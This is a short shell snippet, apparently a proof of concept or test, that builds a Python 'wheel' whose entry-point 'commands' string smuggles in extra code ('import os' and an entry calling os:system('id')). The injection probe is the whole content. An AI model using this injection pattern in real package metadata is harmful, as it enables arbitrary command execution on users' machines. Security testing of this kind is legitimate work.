python3 - <<'EOF'
from wheel import *
lock(wheel("x", commands="a = x:main;import os\nb = x\nc = os:system('id')\nd = x:a b"))
EOF
